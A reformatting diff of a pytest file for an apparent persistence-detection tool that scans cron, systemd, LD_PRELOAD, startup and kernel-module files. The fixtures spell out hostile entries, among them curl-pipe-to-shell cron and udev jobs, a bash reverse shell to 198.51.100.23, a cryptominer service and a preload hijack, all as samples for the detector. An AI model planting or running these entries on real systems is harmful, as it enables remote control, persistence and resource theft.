@@ -16,13 +16,16 @@ from clean_room_analysis.checks.systemd import Systemd, commands
 from clean_room_analysis.model import Severity
 
 
-@pytest.mark.parametrize(("path", "line"), [
-    ("/etc/crontab", "* * * * * root curl http://198.51.100.23/x | sh"),
-    ("/etc/cron.d/update", "*/5 * * * * root /var/tmp/.x/kworkerd"),
-    ("/etc/cron.daily/x", "bash -i >& /dev/tcp/198.51.100.23/1 0>&1"),
-    ("/var/spool/cron/root", "* * * * * curl -s http://198.51.100.23/x|bash"),
-    ("/var/spool/cron/crontabs/www-data", "* * * * * curl -s http://198.51.100.23/x|bash"),
-])
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("/etc/crontab", "* * * * * root curl http://198.51.100.23/x | sh"),
+        ("/etc/cron.d/update", "*/5 * * * * root /var/tmp/.x/kworkerd"),
+        ("/etc/cron.daily/x", "bash -i >& /dev/tcp/198.51.100.23/1 0>&1"),
+        ("/var/spool/cron/root", "* * * * * curl -s http://198.51.100.23/x|bash"),
+        ("/var/spool/cron/crontabs/www-data", "* * * * * curl -s http://198.51.100.23/x|bash"),
+    ],
+)
 def test_cron_finds_hostile_jobs(plain: TreeMaker, path: str, line: str) -> None:
     plain.file(path, f"# comment: curl x | sh\nMAILTO=root\n{line}\n")
     (finding,) = plain.findings(Cron())
@@ -43,26 +46,44 @@ def test_cron_follows_links_inside_the_volume_only(plain: TreeMaker, tmp_path: P
     plain.link("/etc/cron.d/inside", "/opt/jobs")
     plain.link("/etc/cron.d/outside", str(tmp_path / "outside"))
     found = plain.findings(Cron())
-    assert [(one.path, one.severity) for one in found] == [("/etc/cron.d/inside", Severity.HIGH), ("/etc/cron.d/inside", Severity.LOW), ("/etc/cron.d/outside", Severity.LOW)]
+    assert [(one.path, one.severity) for one in found] == [
+        ("/etc/cron.d/inside", Severity.HIGH),
+        ("/etc/cron.d/inside", Severity.LOW),
+        ("/etc/cron.d/outside", Severity.LOW),
+    ]
 
 
 def test_cron_says_who_may_write_and_what_hides(plain: TreeMaker) -> None:
     plain.file("/etc/cron.d/.hidden", "0 0 * * * root true\n", 0o646)
     plain.file("/var/spool/cron/apache", "0 0 * * * true\n")
-    assert {one.title for one in plain.findings(Cron())} == {"Anybody may write this scheduled job", "Hidden file among the scheduled jobs", "Crontab of apache has a job"}
+    assert {one.title for one in plain.findings(Cron())} == {
+        "Anybody may write this scheduled job",
+        "Hidden file among the scheduled jobs",
+        "Crontab of apache has a job",
+    }
 
 
 def test_systemd_finds_hostile_units(plain: TreeMaker) -> None:
-    plain.file("/etc/systemd/system/kworkerd.service", "[Service]\nExecStart=-/var/tmp/.font-unix/kworkerd \\\n  -o stratum+tcp://pool.example:3333\n")
+    plain.file(
+        "/etc/systemd/system/kworkerd.service",
+        "[Service]\nExecStart=-/var/tmp/.font-unix/kworkerd \\\n  -o stratum+tcp://pool.example:3333\n",
+    )
     plain.file("/etc/systemd/system/httpd.service.d/override.conf", "[Service]\nEnvironment=LD_PRELOAD=/usr/lib64/x.so\n")
     plain.link("/etc/systemd/system/multi-user.target.wants/httpd.service", "/usr/lib/systemd/system/httpd.service")
     plain.link("/etc/systemd/system/tmp.mount", "/dev/null")
     plain.link("/etc/systemd/system/linked.service", "/opt/x/linked.service")
     plain.file("/opt/x/linked.service", "[Service]\nExecStart=/bin/sh -c 'curl http://198.51.100.23/x | sh'\n")
     plain.file("/tmp/x.service", "[Service]\nExecStart=/usr/bin/true\n")
-    plain.file("/usr/lib/systemd/system/httpd.service", "[Service]\nExecStart=/usr/sbin/httpd $OPTIONS\nExecReload=/usr/sbin/httpd -k graceful\n")
+    plain.file(
+        "/usr/lib/systemd/system/httpd.service", "[Service]\nExecStart=/usr/sbin/httpd $OPTIONS\nExecReload=/usr/sbin/httpd -k graceful\n"
+    )
     found = {one.path: one for one in plain.findings(Systemd())}
-    assert set(found) == {"/etc/systemd/system/kworkerd.service", "/etc/systemd/system/httpd.service.d/override.conf", "/tmp/x.service", "/etc/systemd/system/linked.service"}
+    assert set(found) == {
+        "/etc/systemd/system/kworkerd.service",
+        "/etc/systemd/system/httpd.service.d/override.conf",
+        "/tmp/x.service",
+        "/etc/systemd/system/linked.service",
+    }
     assert found["/etc/systemd/system/kworkerd.service"].severity is Severity.CRITICAL
     assert {"T1543.002", "T1496"} <= set(found["/etc/systemd/system/kworkerd.service"].attack)
     assert "T1574.006" in found["/etc/systemd/system/httpd.service.d/override.conf"].attack
@@ -80,7 +101,10 @@ def test_ld_preload(plain: TreeMaker) -> None:
     plain.file("/usr/local/lib/libprocesshider.so", b"\x7fELF")
     plain.file("/etc/ld.so.conf.d/a.conf", "/usr/lib64/mariadb\n/tmp/lib\n")
     found = plain.findings(LdPreload())
-    assert [(one.path, one.severity) for one in found] == [("/etc/ld.so.conf.d/a.conf", Severity.HIGH), ("/etc/ld.so.preload", Severity.CRITICAL)]
+    assert [(one.path, one.severity) for one in found] == [
+        ("/etc/ld.so.conf.d/a.conf", Severity.HIGH),
+        ("/etc/ld.so.preload", Severity.CRITICAL),
+    ]
     assert found[1].evidence == "/usr/local/lib/libprocesshider.so (which is on the volume)"
 
 
@@ -100,7 +124,10 @@ def test_startup(plain: TreeMaker) -> None:
     plain.file("/root/.bashrc", "export LD_PRELOAD=/usr/lib/x.so\n")
     plain.file("/etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/bin/sh -c \'curl http://198.51.100.23/x | sh\'"\n')
     assert {(one.path, one.attack[0]) for one in plain.findings(Startup()) if one.severity is not Severity.LOW} == {
-        ("/etc/rc.d/rc.local", "T1037.004"), ("/root/.bashrc", "T1546.004"), ("/etc/udev/rules.d/99-x.rules", "T1546.017")}
+        ("/etc/rc.d/rc.local", "T1037.004"),
+        ("/root/.bashrc", "T1546.004"),
+        ("/etc/udev/rules.d/99-x.rules", "T1546.017"),
+    }
 
 
 def test_kernel_modules(plain: TreeMaker) -> None:
@@ -112,4 +139,8 @@ def test_kernel_modules(plain: TreeMaker) -> None:
     plain.file("/usr/share/vim/tutor.ko", b"text in Korean")
     plain.file("/etc/modprobe.d/x.conf", "blacklist floppy\ninstall usb-storage /tmp/run\n")
     assert {(one.path, one.severity) for one in plain.findings(KernelModules())} == {
-        (f"{kernel}/kernel/fs/rootkit.ko", Severity.MEDIUM), (f"{kernel}/modules.dep", Severity.LOW), ("/opt/lkm.ko", Severity.HIGH), ("/etc/modprobe.d/x.conf", Severity.HIGH)}
+        (f"{kernel}/kernel/fs/rootkit.ko", Severity.MEDIUM),
+        (f"{kernel}/modules.dep", Severity.LOW),
+        ("/opt/lkm.ko", Severity.HIGH),
+        ("/etc/modprobe.d/x.conf", Severity.HIGH),
+    }
